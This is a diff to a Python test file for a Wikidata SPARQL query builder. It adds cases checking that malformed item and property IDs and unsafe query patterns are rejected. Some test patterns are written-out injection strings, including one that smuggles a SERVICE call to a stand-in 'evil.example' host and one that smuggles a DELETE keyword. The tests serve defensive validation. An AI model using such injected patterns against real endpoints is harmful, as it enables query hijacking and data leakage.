@@ -18,7 +18,8 @@ def test_query_error_is_user_facing() -> None:
 
 @pytest.mark.parametrize(
     "qid",
-    ["Q0", "Q01", "q42", "Q42 ", "Q42}", 'Q42" .', "Q42\n}", "Q42#", "Q4\\2", "wd:Q42", "", "P31"],
+    ["Q0", "Q01", "q42", "Q42 ", "Q42}", 'Q42" .', "Q42\n}", "Q42#", "Q4\\2", "wd:Q42", "", "P31",
+     "Q990000116\n", "Q42\r", "Q\u0664\u0662"],  # a trailing newline; Arabic-Indic digits
 )
 def test_bad_qids_are_refused(qid: str) -> None:
     with pytest.raises(QueryError):
@@ -79,6 +80,8 @@ BAD_PATTERNS = [
     "?item wdt:P31 wd:Q515 . DELETE",
     "?item wdt:P31 wd:Q515 } LIMIT 1 #",
     "?item wdt:P31 wd:Q515 . ?item wdt:P17 ",  # a syntax error only the parser sees
+    "?item wdt:P31 ?o .SERVICE <http://evil.example/> { ?item ?p ?o }",  # "." then a keyword
+    "?item wdt:P31 wd:Q515 . } order by ?item #",
     "?item wdt:P31 wd:Q515 . FILTER(",
     "?item undeclared:P31 wd:Q515 .",
 ]
@@ -100,6 +103,10 @@ def test_bad_patterns_are_refused_before_sending(pattern: str, fake_endpoint: Fa
         '?item wdt:P31 wd:Q515 ; rdfs:label "a } brace # not a comment"@en .',
         "{ ?item wdt:P31 wd:Q515 } UNION { ?item wdt:P31 wd:Q1549591 } # a comment }",
         "?item wdt:P31 wd:Q515 . FILTER NOT EXISTS { ?item wdt:P17 wd:Q38 }",
+        # Variables and names that merely spell a keyword are not keywords.
+        "?item wdt:P31 wd:Q515 ; wdt:P17 ?with . ?with wdt:P36 ?Order .",
+        "?item wdt:P31 wd:Q515 . $item wdt:P17 $select . BIND(?select AS ?limit)",
+        "?item wdt:P31 wd:Q515 ; rdfs:label ?withdrawn .",
     ],
 )
 def test_good_patterns_pass(pattern: str) -> None:
@@ -114,3 +121,13 @@ def test_user_agent_names_the_configured_contact(monkeypatch) -> None:
     assert "(curator@example.org)" in live.user_agent and live.user_agent.startswith("TailLens/")
     explicit = open_source("http://127.0.0.1:9/sparql", contact="lab@example.org")
     assert "(lab@example.org)" in explicit.user_agent and explicit.kind == "endpoint"
+
+
+@pytest.mark.parametrize("pid", ["P31\n", "P0", "p31", "P31 "])
+def test_bad_pids_and_category_ids_are_refused(pid: str) -> None:
+    with pytest.raises(QueryError):
+        queries.check_pid(pid)
+    with pytest.raises(ValueError):
+        Category("Custom", "Q515", pid, "?item wdt:P31 wd:Q515 .")
+    with pytest.raises(ValueError):
+        Category("Custom", "Q515\n", "P31", "?item wdt:P31 wd:Q515 .")
